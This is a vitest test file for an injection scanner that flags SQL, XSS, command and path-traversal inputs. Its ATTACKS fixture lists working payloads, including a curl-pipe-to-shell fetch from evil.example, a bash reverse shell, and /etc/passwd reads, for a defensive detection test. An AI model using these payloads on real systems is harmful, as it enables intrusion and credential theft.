import { describe, expect, it } from 'vitest'
import {
  INJECTION_CLASSES,
  injectionScanner,
  SIGNATURES,
  type InjectionClass,
} from './injection.js'

const all = injectionScanner(new Set(INJECTION_CLASSES))

const ATTACKS: Record<InjectionClass, string[]> = {
  sql: [
    "' OR '1'='1",
    "admin'--",
    "1' or 1=1 -- ",
    "') or ('a'='a",
    '" or ""="',
    '1 or 2>1',
    '1 UNION SELECT password FROM users',
    '1 union/**/all/**/select 1',
    "x'; DROP TABLE users; --",
    '1 AND SLEEP(5)',
    "'; WAITFOR DELAY '0:0:5'--",
    'SELECT * FROM information_schema.tables',
  ],
  xss: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    'javascript:alert(1)',
    '<iframe src=//evil.example>',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '<a href="#" onclick = "steal()">',
    'data:text/html;base64,PHNjcmlwdD4=',
  ],
  command: [
    '; cat /etc/passwd',
    '| whoami',
    '&& curl http://evil.example/x.sh | sh',
    '$(id)',
    '`id`',
    'a;id',
    '${IFS}cat${IFS}/etc/passwd',
    'x || ping -c 10 127.0.0.1',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  ],
  path: [
    '../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2fetc',
    '....//....//etc/passwd',
    '%252e%252e%252f',
    'file:///etc/passwd',
    'a\u0000b',
    '..%c0%af..%c0%afetc',
  ],
}

const LOOKALIKES = [
  "O'Brien",
  "D'Angelo and O'Neil",
  "It's Tom's 'best' or 2nd best",
  'Rock & Roll',
  'dog | cat lovers',
  'Tom & Jerry; cat lovers',
  'Select the tea from the menu',
  'Please select one from the list, or none',
  'café crème brûlée 日本語 テスト 🍵',
  'Price < 5 and > 2',
  'a <b>bold</b> claim',
  'Use $5 for tea',
  "I'd like 2 -- maybe 3",
  'e-mail: a@b.example',
  "C'est l'été; on y va",
  '50% off, 100%',
  'see section 2.1/3',
  'he said "no" and left',
  'version 1.2.3 -- final',
  '#hashtag',
  "mother's day sale: 20% off (today only)",
  'update: the order shipped',
  'Delete from my list please',
]

describe('injection signatures', () => {
  it.each(INJECTION_CLASSES)('finds %s attacks, and names the class', (c) => {
    const only = injectionScanner(new Set([c]))
    for (const text of ATTACKS[c]) {
      expect(only(text), text).toBe(c)
      expect(all(text), text).toBeDefined()
    }
  })

  it('lets ordinary text that looks like an attack pass', () => {
    for (const text of LOOKALIKES) expect(all(text), text).toBeUndefined()
  })

  it('looks only for the classes a route asks for', () => {
    expect(injectionScanner(new Set(['xss']))("' OR '1'='1")).toBeUndefined()
    expect(injectionScanner(new Set(['sql']))('<script>')).toBeUndefined()
  })

  it('every signature is named and belongs to a class', () => {
    for (const s of SIGNATURES) {
      expect(INJECTION_CLASSES).toContain(s.class)
      expect(s.name.length).toBeGreaterThan(3)
    }
  })

  it('reads adversarial input in time linear in its length (re2js)', () => {
    const inputs = [
      `'${' '.repeat(200_000)}or`,
      '<a'.repeat(100_000),
      `${'%2e'.repeat(100_000)}x`,
      `;${' '.repeat(200_000)}`,
      `union${'/**/'.repeat(50_000)}`,
    ]
    const started = performance.now()
    for (const text of inputs) all(text)
    expect(performance.now() - started).toBeLessThan(3_000)
  })
})
